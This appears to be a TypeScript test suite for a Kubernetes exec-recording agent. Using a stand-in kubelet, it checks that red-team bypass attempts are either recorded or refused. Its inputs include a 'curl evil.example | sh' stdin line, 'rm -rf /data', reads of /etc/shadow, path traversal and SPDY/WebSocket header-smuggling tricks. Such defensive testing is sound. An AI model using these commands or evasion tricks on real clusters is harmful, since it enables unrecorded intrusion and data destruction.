// Exec recording (`tower agent --record-exec DIR --record-stdin`, fail-closed) against the real kube-apiserver
// v1.20.2, which routes each exec to a stand-in kubelet (a Node object whose InternalIP and port are a TLS server
// here). The stand-in reads each request and stream with Go's rules (x/net/websocket: every frame is its own message;
// spdystream: a header value split at NUL, Get takes the first; a SYN_STREAM whose id is not above the last is
// rejected and the connection goes on). Each case is a way a red team once ran a command unrecorded; each asserts
// the safe outcome: whatever the kubelet ran, or the client was shown, is on record, or never happened.
import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createServer as createTlsServer, type TLSSocket } from 'node:tls';
import { setTimeout as sleep } from 'node:timers/promises';
import { constants as zc, createDeflate, createInflate, type Deflate } from 'node:zlib';
import { after, before, describe, test } from 'node:test';
import type { ServerChannel } from 'ssh2';
import { SPDY_DICTIONARY } from '../src/agent/spdy.ts';
import { CHANNEL_TYPE_TLS } from '../src/tunnel/protocol.ts';
import type { AgentSession } from '../src/tunnel/server.ts';
import { issueApiserverPki } from './support/apiserver-pki.ts';
import { startMemberCluster, type MemberCluster } from './support/cluster.ts';
import { FakeProxy } from './support/fake-proxy.ts';
import { kubectl } from './support/stack.ts';
import { removeDir, tempDir, TowerProcess } from './support/tower.ts';

const AGENT_TOKEN = 'e'.repeat(64);
const WS_GUID = '258EAFA5-E914-47DA-95CA-C5AB0DC11B85';

interface KubeletHit {
  method: string;
  target: string;
  headers: Map<string, string[]>;
  /** a session began here: the kubelet switched protocols (the command runs) */
  upgraded: boolean;
  /** what reached the container's stdin, as the kubelet's Go reads it */
  stdin: string;
  /** SYN_STREAMs accepted, streamtype as Go's Header.Get reads it */
  spdyStreams: { id: number; type: string }[];
}

/** A kubelet as the kube-apiserver reaches it: TLS, one request per connection, Go's reading of each stream. */
class FakeKubelet {
  hits: KubeletHit[] = [];
  port = 0;
  #server: ReturnType<typeof createTlsServer>;

  constructor(key: string, cert: string) {
    this.#server = createTlsServer({ key, cert }, (s) => this.#conn(s));
  }

  async listen(): Promise<void> {
    await new Promise<void>((r) => this.#server.listen(0, '127.0.0.1', r));
    this.port = (this.#server.address() as { port: number }).port;
  }

  close(): void {
    this.#server.close();
  }

  #conn(s: TLSSocket): void {
    s.on('error', () => undefined);
    let buf = Buffer.alloc(0);
    const onData = (d: Buffer) => {
      buf = Buffer.concat([buf, d]);
      const end = buf.indexOf('\r\n\r\n');
      if (end < 0) return;
      s.off('data', onData);
      const lines = buf.subarray(0, end).toString('latin1').split('\r\n');
      const rest = buf.subarray(end + 4);
      const [method, target] = lines[0]!.split(' ');
      const headers = new Map<string, string[]>();
      for (const l of lines.slice(1)) {
        const i = l.indexOf(':');
        const k = l.slice(0, i).trim().toLowerCase();
        headers.set(k, [...(headers.get(k) ?? []), l.slice(i + 1).trim()]);
      }
      const hit: KubeletHit = {
        method: method!,
        target: target!,
        headers,
        upgraded: false,
        stdin: '',
        spdyStreams: [],
      };
      this.hits.push(hit);
      this.#serve(s, hit, rest);
    };
    s.on('data', onData);
  }

  #serve(s: TLSSocket, hit: KubeletHit, rest: Buffer): void {
    const get = (k: string) => hit.headers.get(k)?.[0] ?? '';
    if (hit.target.startsWith('/run/')) {
      const body = `ran ${new URL(hit.target, 'https://x').searchParams.get('cmd')}\n`;
      s.end(`HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
      return;
    }
    if (!/^\/(exec|attach)\//.test(hit.target)) {
      s.end('HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n');
      return;
    }
    // x/net/websocket's handshake and the SPDY upgrader: substrings of the first Connection/Upgrade values
    const connection = get('connection').toLowerCase();
    const upgrade = get('upgrade').toLowerCase();
    if (upgrade === 'websocket' && connection.includes('upgrade') && hit.method === 'GET') {
      this.#websocket(s, hit, rest);
      return;
    }
    if (upgrade.includes('spdy/3.1') && connection.includes('upgrade')) {
      this.#spdy(s, hit, rest);
      return;
    }
    s.end('HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n');
  }

  #websocket(s: TLSSocket, hit: KubeletHit, rest: Buffer): void {
    const offered = (hit.headers.get('sec-websocket-protocol')?.[0] ?? '').split(',').map((p) => p.trim());
    const protocol = offered.find((p) => p === 'v4.channel.k8s.io' || p === 'channel.k8s.io') ?? '';
    const accept = createHash('sha1')
      .update((hit.headers.get('sec-websocket-key')?.[0] ?? '') + WS_GUID)
      .digest('base64');
    s.write(
      'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n' +
        `Sec-WebSocket-Accept: ${accept}\r\nSec-WebSocket-Protocol: ${protocol}\r\n\r\n`,
    );
    hit.upgraded = true;
    // every client frame is a message of its own (x/net/websocket Codec.Receive): byte 0 its channel
    let pending = rest;
    const read = (d: Buffer) => {
      pending = Buffer.concat([pending, d]);
      for (;;) {
        if (pending.length < 2) return;
        let len = pending[1]! & 0x7f;
        let o = 2;
        if (len === 126) {
          if (pending.length < 4) return;
          len = pending.readUInt16BE(2);
          o = 4;
        }
        const masked = (pending[1]! & 0x80) !== 0;
        const headLen = o + (masked ? 4 : 0);
        if (pending.length < headLen + len) return;
        const mask = masked ? pending.subarray(o, o + 4) : undefined;
        const payload = Buffer.from(pending.subarray(headLen, headLen + len));
        if (mask) for (let i = 0; i < payload.length; i++) payload[i] = payload[i]! ^ mask[i & 3]!;
        const opcode = pending[0]! & 0x0f;
        pending = pending.subarray(headLen + len);
        if (opcode >= 8) continue;
        if (payload.length > 0 && payload[0] === 0) hit.stdin += payload.subarray(1).toString('latin1');
      }
    };
    s.on('data', read);
    const frame = (b: Buffer) => Buffer.concat([Buffer.from([0x82, b.length]), b]);
    setTimeout(() => s.write(frame(Buffer.from(`\x01SECRET-OUTPUT from ${hit.target}\n`))), 150);
    setTimeout(() => {
      s.write(frame(Buffer.from('\x03{"metadata":{},"status":"Success"}')));
      s.end(Buffer.from([0x88, 0x00]));
    }, 1200);
  }

  #spdy(s: TLSSocket, hit: KubeletHit, rest: Buffer): void {
    s.write(
      'HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: SPDY/3.1\r\n' +
        'X-Stream-Protocol-Version: v4.channel.k8s.io\r\n\r\n',
    );
    hit.upgraded = true;
    const inflate = createInflate({ dictionary: SPDY_DICTIONARY, finishFlush: zc.Z_SYNC_FLUSH });
    inflate.on('error', () => s.destroy());
    const waiting: number[] = [];
    let out = Buffer.alloc(0);
    let lastId = 0;
    let stdoutId: number | undefined;
    inflate.on('data', (d: Buffer) => {
      out = Buffer.concat([out, d]);
      for (;;) {
        if (out.length < 4) return;
        const pairs = out.readUInt32BE(0);
        let at = 4;
        const h = new Map<string, string[]>();
        let whole = true;
        for (let i = 0; i < pairs && whole; i++) {
          const str = () => {
            if (out.length < at + 4) return undefined;
            const n = out.readUInt32BE(at);
            if (out.length < at + 4 + n) return undefined;
            const v = out.toString('latin1', at + 4, at + 4 + n);
            at += 4 + n;
            return v;
          };
          const name = str();
          const value = name === undefined ? undefined : str();
          if (value === undefined) whole = false;
          // spdystream: values split at NUL, each Add()ed; Get() is the first
          else h.set(name!.toLowerCase(), value.split('\0'));
        }
        if (!whole) return;
        out = out.subarray(at);
        const id = waiting.shift()!;
        // spdystream validateStreamId: an id not above the last one received is reset, the connection goes on
        if (id <= lastId) continue;
        lastId = id;
        const type = h.get('streamtype')?.[0] ?? '';
        hit.spdyStreams.push({ id, type });
        if (type === 'stdout') stdoutId = id;
      }
    });
    let pending = rest;
    const read = (d: Buffer) => {
      pending = Buffer.concat([pending, d]);
      while (pending.length >= 8) {
        const len = pending.readUInt32BE(4) & 0xffffff;
        if (pending.length < 8 + len) return;
        const control = (pending[0]! & 0x80) !== 0;
        if (control && pending.readUInt16BE(2) === 1) {
          waiting.push(pending.readUInt32BE(8) & 0x7fffffff);
          inflate.write(Buffer.from(pending.subarray(18, 8 + len)));
        }
        pending = pending.subarray(8 + len);
      }
    };
    s.on('data', read);
    read(Buffer.alloc(0));
    // the session's output, on the stream Go calls stdout, once the client's streams are all in
    setTimeout(() => {
      if (stdoutId === undefined) return;
      const data = Buffer.from(`SECRET-OUTPUT over spdy ${hit.target}\n`);
      const head = Buffer.alloc(8);
      head.writeUInt32BE(stdoutId, 0);
      head.writeUInt32BE(data.length, 4);
      s.write(Buffer.concat([head, data]));
    }, 600);
    setTimeout(() => s.end(), 1500);
  }
}

/** one SPDY/3 header-block compression context, as a client's connection has */
class SpdyClient {
  #deflate: Deflate = createDeflate({ dictionary: SPDY_DICTIONARY });

  async synStream(id: number, headers: [string, string][]): Promise<Buffer> {
    const parts: Buffer[] = [];
    const u32 = (n: number) => {
      const b = Buffer.alloc(4);
      b.writeUInt32BE(n);
      return b;
    };
    parts.push(u32(headers.length));
    for (const [k, v] of headers)
      parts.push(
        u32(Buffer.byteLength(k, 'latin1')),
        Buffer.from(k, 'latin1'),
        u32(Buffer.byteLength(v, 'latin1')),
        Buffer.from(v, 'latin1'),
      );
    const chunks: Buffer[] = [];
    const onData = (c: Buffer) => chunks.push(c);
    this.#deflate.on('data', onData);
    this.#deflate.write(Buffer.concat(parts));
    await new Promise<void>((r) => this.#deflate.flush(zc.Z_SYNC_FLUSH, () => r()));
    await sleep(10);
    this.#deflate.off('data', onData);
    const block = Buffer.concat(chunks);
    const frame = Buffer.alloc(18);
    frame.writeUInt16BE(0x8003, 0);
    frame.writeUInt16BE(1, 2);
    frame.writeUInt32BE(10 + block.length, 4); // flags 0
    frame.writeUInt32BE(id, 8);
    frame.writeUInt32BE(0, 12);
    return Buffer.concat([frame, block]);
  }
}

/** a masked client WebSocket frame */
function wsFrame(opcode: number, fin: boolean, payload: Buffer): Buffer {
  const mask = randomBytes(4);
  const masked = Buffer.from(payload);
  for (let i = 0; i < masked.length; i++) masked[i] = masked[i]! ^ mask[i & 3]!;
  return Buffer.concat([Buffer.from([(fin ? 0x80 : 0) | opcode, 0x80 | payload.length]), mask, masked]);
}

describe('what the real kube-apiserver routes to a kubelet as a session is on record, however it is spelled', () => {
  let member: MemberCluster;
  let dir: string;
  let recordings: string;
  let proxy: FakeProxy;
  let agent: TowerProcess;
  let session: AgentSession;
  let kubelet: FakeKubelet;

  before(async () => {
    member = await startMemberCluster();
    dir = tempDir('recording-bypass');
    recordings = join(dir, 'recordings');
    const pki = await issueApiserverPki('kubelet', { user: 'x', groups: [] });
    kubelet = new FakeKubelet(pki.serving.key, pki.serving.cert);
    await kubelet.listen();
    const must = async (args: string[], input?: string) => {
      const r = await kubectl(member.kubeconfig, args, input);
      assert.equal(r.code, 0, `kubectl ${args.join(' ')}: ${r.stderr}`);
    };
    await must(['-n', 'default', 'create', 'serviceaccount', 'default']);
    await must(
      ['create', '-f', '-'],
      JSON.stringify({
        apiVersion: 'v1',
        kind: 'Node',
        metadata: { name: 'n1' },
        status: {
          addresses: [{ type: 'InternalIP', address: '127.0.0.1' }],
          daemonEndpoints: { kubeletEndpoint: { Port: kubelet.port } },
        },
      }),
    );
    await must(
      ['create', '-f', '-'],
      JSON.stringify({
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: { name: 'p', namespace: 'default' },
        spec: { nodeName: 'n1', automountServiceAccountToken: false, containers: [{ name: 'c', image: 'busybox' }] },
      }),
    );
    proxy = await FakeProxy.start();
    agent = new TowerProcess('agent', [
      'agent',
      '--name',
      'rt2',
      '--token',
      AGENT_TOKEN,
      '--proxy-server',
      proxy.url,
      '--proxy-fingerprint',
      proxy.fingerprint,
      '--kubeconfig',
      member.kubeconfig,
      '--record-exec',
      recordings,
      '--record-stdin',
      '--log-format',
      'json',
    ]);
    session = await proxy.session('rt2');
  });

  after(async () => {
    await agent?.stop('SIGKILL');
    await proxy?.close();
    kubelet?.close();
    await member?.stop();
    if (dir) removeDir(dir);
  });

  /** every cast in the directory: its output and input text */
  function onRecord(): { o: string; i: string; files: number } {
    let o = '';
    let i = '';
    let files = 0;
    for (const f of readdirSync(recordings).filter((n) => n.endsWith('.cast'))) {
      files++;
      for (const line of readFileSync(join(recordings, f), 'utf8').split('\n').slice(1)) {
        if (!line.trim()) continue;
        const e = JSON.parse(line) as [number, string, string];
        if (e[1] === 'o') o += e[2];
        if (e[1] === 'i') i += e[2];
      }
    }
    return { o, i, files };
  }

  /**
   * As a hostile proxy (or any gateway user, where the gateway passes the bytes): writes `head` into a TLS channel,
   * then `after(channel)` once the 101 came; reads for `ms`; returns what came back.
   */
  async function session101(
    head: string,
    after?: (ch: ServerChannel) => Promise<void>,
    ms = 2500,
  ): Promise<{ answer: string; hits: KubeletHit[] }> {
    const before = kubelet.hits.length;
    const ch = await session.openChannel(session.config.kubernetesSvcHost, CHANNEL_TYPE_TLS);
    ch.on('error', () => undefined);
    let answer = '';
    ch.on('data', (d: Buffer) => (answer += d.toString('latin1')));
    ch.write(Buffer.from(head, 'latin1'));
    const deadline = Date.now() + 8000;
    while (!answer.includes('\r\n\r\n') && !ch.destroyed && Date.now() < deadline) await sleep(20);
    if (answer.startsWith('HTTP/1.1 101') && after) await after(ch);
    await sleep(ms);
    ch.close();
    await sleep(800);
    return { answer, hits: kubelet.hits.slice(before) };
  }

  const wsHead = (target: string, connection = 'Upgrade') =>
    `GET ${target} HTTP/1.1\r\nHost: member\r\nConnection: ${connection}\r\nUpgrade: websocket\r\n` +
    'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n' +
    'Sec-WebSocket-Protocol: v4.channel.k8s.io\r\n\r\n';

  test('a plain WebSocket exec reaches the kubelet, and its output and stdin are on record', async () => {
    const r = await session101(
      wsHead('/api/v1/namespaces/default/pods/p/exec?command=cat&stdin=true&stdout=true&container=c'),
      async (ch) => {
        ch.write(wsFrame(2, true, Buffer.from('\x00CONTROL-TYPED\n')));
      },
    );
    assert.match(r.answer, /^HTTP\/1\.1 101/, r.answer);
    assert.ok(r.hits.some((h) => h.upgraded && h.target.startsWith('/exec/default/p/c?')));
    const rec = onRecord();
    assert.match(rec.o, /SECRET-OUTPUT from \/exec\/default\/p\/c/);
    assert.match(rec.i, /CONTROL-TYPED/);
  });

  test('pods/p%2Fexec, which the apiserver routes to an exec: on record', async () => {
    const r = await session101(wsHead('/api/v1/namespaces/default/pods/p%2Fexec?command=id&stdout=true&container=c'));
    const ran = r.hits.find((h) => h.upgraded && h.target.startsWith('/exec/default/p/c?'));
    assert.ok(ran, `the kubelet got: ${JSON.stringify(r.hits.map((h) => h.target))}; answer ${r.answer.slice(0, 200)}`);
    assert.match(r.answer, /SECRET-OUTPUT/, 'the session output reached the proxy');
    assert.match(
      onRecord().o,
      /SECRET-OUTPUT from \/exec\/default\/p\/c\?command=id&/,
      'an exec the member ran is on record',
    );
  });

  test("the kubelet's exec through nodes/proxy, spelled exec%2F…: on record, or never run", async () => {
    const recordedBefore = onRecord().files;
    const r = await session101(wsHead('/api/v1/nodes/n1/proxy/exec%2Fdefault%2Fp%2Fc?command=whoami&stdout=true'));
    // v1.20 drops an upgrade's query on nodes/proxy (the kubelet then has no command); later versions pass it on
    const ran = r.hits.find((h) => h.upgraded && h.target.startsWith('/exec/default/p/c'));
    assert.ok(ran, JSON.stringify(r.hits.map((h) => h.target)));
    assert.ok(onRecord().files > recordedBefore || !ran, `the kubelet switched ${ran.target}; no recording was begun`);
  });

  test('nodes/proxy/x/../exec, which the apiserver cleans into an exec: never run unrecorded', async () => {
    const recordedBefore = onRecord().files;
    const r = await session101(wsHead('/api/v1/nodes/n1/proxy/x/../exec/default/p/c?command=hostname&stdout=true'));
    const ran = r.hits.find((h) => h.upgraded && h.target.startsWith('/exec/default/p/c'));
    assert.ok(onRecord().files > recordedBefore || !ran, `the kubelet switched ${ran?.target}; no recording was begun`);
    // a ".." segment is not read for certain: refused, as a session that cannot be recorded
    assert.match(r.answer, /^HTTP\/1\.1 403 [\s\S]*cannot read for certain/);
  });

  test('"Connection: keep-alive upgrade", an upgrade to Go: on record, or never run', async () => {
    const r = await session101(
      wsHead(
        '/api/v1/namespaces/default/pods/p/exec?command=touch&command=/pwned&stdout=true&container=c',
        'keep-alive upgrade',
      ),
    );
    const ran = r.hits.find((h) => h.upgraded && h.target.includes('command=%2Fpwned'));
    // safe: the agent never let it reach the kubelet, or it is on record
    assert.ok(
      !ran || /SECRET-OUTPUT from \/exec\/default\/p\/c\?command=touch/.test(onRecord().o),
      `the kubelet started ${ran?.target} and nothing is on record; ` +
        `agent answered ${JSON.stringify(r.answer.slice(0, 80))}`,
    );
  });

  test('?stdin=yes, stdin to kube-apiserver: what was typed is on record', async () => {
    const r = await session101(
      wsHead('/api/v1/namespaces/default/pods/p/exec?command=sh&stdin=yes&stdout=true&container=c'),
      async (ch) => {
        ch.write(wsFrame(2, true, Buffer.from('\x00curl evil.example | sh # F5\n')));
      },
    );
    const ran = r.hits.find((h) => h.upgraded && h.target.startsWith('/exec/default/p/c?command=sh'));
    assert.ok(ran && /[?&]input=1/.test(ran.target), JSON.stringify(r.hits.map((h) => h.target)));
    assert.match(ran.stdin, /# F5/, 'the container read what was typed');
    assert.match(onRecord().i, /# F5/, 'what the container read is on record (--record-stdin)');
  });

  test('stdin in a WebSocket continuation frame, a message of its own to Go: never read unrecorded', async () => {
    const r = await session101(
      wsHead('/api/v1/namespaces/default/pods/p/exec?command=sh&stdin=true&stdout=true&container=c'),
      async (ch) => {
        ch.write(wsFrame(2, false, Buffer.from('\x04{"Width":80,"Height":24}')));
        ch.write(wsFrame(0, true, Buffer.from('\x00rm -rf /data # F6\n')));
      },
    );
    const ran = r.hits.find((h) => h.upgraded && /# F6/.test(h.stdin));
    assert.ok(
      !ran || /# F6/.test(onRecord().i),
      'what the container read is on record (--record-stdin), if it read it',
    );
  });

  const spdyHead = (target: string) =>
    `POST ${target} HTTP/1.1\r\nHost: member\r\nConnection: Upgrade\r\nUpgrade: SPDY/3.1\r\n` +
    'X-Stream-Protocol-Version: v4.channel.k8s.io\r\nContent-Length: 0\r\n\r\n';

  test('a SPDY streamtype "stdout\\0x", stdout to spdystream: nothing shown unrecorded', async () => {
    const spdy = new SpdyClient();
    const r = await session101(
      spdyHead('/api/v1/namespaces/default/pods/p/exec?command=cat&command=/etc/shadow&stdout=true&container=c'),
      async (ch) => {
        ch.write(await spdy.synStream(1, [['streamtype', 'error']]));
        ch.write(await spdy.synStream(3, [['streamtype', 'stdout\0x']]));
      },
    );
    const shown = /SECRET-OUTPUT over spdy \S*command=%2Fetc%2Fshadow/;
    assert.ok(!shown.test(r.answer) || shown.test(onRecord().o), 'what the client was shown is on record');
  });

  test('a SYN_STREAM for stream 3 again, which spdystream rejects: nothing shown unrecorded', async () => {
    const spdy = new SpdyClient();
    const r = await session101(
      spdyHead('/api/v1/namespaces/default/pods/p/exec?command=cat&command=/etc/hosts&stdout=true&container=c'),
      async (ch) => {
        ch.write(await spdy.synStream(1, [['streamtype', 'error']]));
        ch.write(await spdy.synStream(3, [['streamtype', 'stdout']]));
        ch.write(await spdy.synStream(3, [['streamtype', 'resize']]));
      },
    );
    const shown = /SECRET-OUTPUT over spdy \S*command=%2Fetc%2Fhosts/;
    assert.ok(!shown.test(r.answer) || shown.test(onRecord().o), 'what the client was shown is on record');
  });

  test("the kubelet's run API through nodes/proxy: refused, as it cannot be recorded", async () => {
    const before = kubelet.hits.length;
    const ch = await session.openChannel(session.config.kubernetesSvcHost, CHANNEL_TYPE_TLS);
    ch.on('error', () => undefined);
    let answer = '';
    ch.on('data', (d: Buffer) => (answer += d.toString('latin1')));
    ch.write(
      'POST /api/v1/nodes/n1/proxy/run/default/p/c?cmd=id HTTP/1.1\r\nHost: member\r\nContent-Length: 0\r\n\r\n',
    );
    const deadline = Date.now() + 8000;
    while (!/ran id/.test(answer) && !ch.destroyed && Date.now() < deadline) await sleep(20);
    ch.close();
    const ran = kubelet.hits.slice(before).find((h) => h.target.startsWith('/run/default/p/c'));
    assert.equal(ran, undefined, `the kubelet ran ${ran?.target}; answer: ${answer.slice(0, 120)}`);
    assert.match(answer, /^HTTP\/1\.1 403 [\s\S]*the kubelet's run API/);
  });
});
